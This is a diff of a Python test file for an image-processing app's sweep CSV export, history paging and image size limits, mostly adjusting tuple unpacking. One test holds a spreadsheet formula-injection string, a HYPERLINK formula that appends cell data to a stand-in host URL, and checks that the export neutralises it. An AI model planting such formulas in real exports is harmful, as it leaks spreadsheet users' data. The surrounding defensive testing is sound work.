@@ -89,7 +89,7 @@ def test_the_pixel_limit_still_refuses_a_bomb_with_a_big_comment(client, tmp_pat
     refused(client, r"too large to decode safely|inputs are limited to 16 MP", str(path))
 
 
-def _sweep(client, image: str, **params) -> tuple[str, str]:
+def _sweep(client, image: str, **params) -> tuple[str, str, dict]:
     params = {"engine": "local", "upscale_factor": 1, "y_axis": "", "y_values": "", **params}
     return client.predict(handle_file(image), "", api_name="/sweep", **params)
 
@@ -103,7 +103,7 @@ def test_the_sweep_csv_is_safe_to_open(client, tmp_path: Path, case, fal_server,
     path = tmp_path / "in.png"
     path.write_bytes(image)
     formula = '=HYPERLINK("https://example.invalid/?"&A1,"open") café 東京'
-    sheet_csv, _ = _sweep(client, str(path), prompt="a cat", x_axis="prompt", engine="fal",
+    sheet_csv, _, _ = _sweep(client, str(path), prompt="a cat", x_axis="prompt", engine="fal",
                           x_values=f"{formula} | -1 café 東京")
     data = Path(sheet_csv).read_bytes()
     assert data.startswith(b"\xef\xbb\xbf")
@@ -119,7 +119,7 @@ def test_quoted_prompt_sr_values_with_spaces_run(client, tmp_path: Path, fal_ser
     fal_server.set_default(queue_polls=1, run_polls=1)
     path = tmp_path / "in.png"
     path.write_bytes(files.plain("RGB", "PNG"))
-    sheet_csv, _ = _sweep(client, str(path), prompt="a red, fox", x_axis="prompt_sr", engine="fal",
+    sheet_csv, _, _ = _sweep(client, str(path), prompt="a red, fox", x_axis="prompt_sr", engine="fal",
                           x_values='"red, fox" , "blue, bird"')
     rows = list(csv.DictReader(io.StringIO(Path(sheet_csv).read_bytes().decode("utf-8-sig"), newline="")))
     assert [row["prompt"] for row in rows] == ["a red, fox", "a blue, bird"]
@@ -145,5 +145,5 @@ def test_history_pages_past_the_table_limit(client) -> None:
         store.save(run)
         ids.append(run.id)
     ids.reverse()
-    assert [row[-1] for row in client.predict(api_name="/history")["data"]] == ids[:500]
-    assert [row[-1] for row in client.predict("", "any", "any", 500, 500, api_name="/history")["data"]] == ids[500:]
+    assert [row[-1] for row in client.predict(api_name="/history")[0]["data"]] == ids[:500]
+    assert [row[-1] for row in client.predict("", "any", "any", 500, 500, api_name="/history")[0]["data"]] == ids[500:]
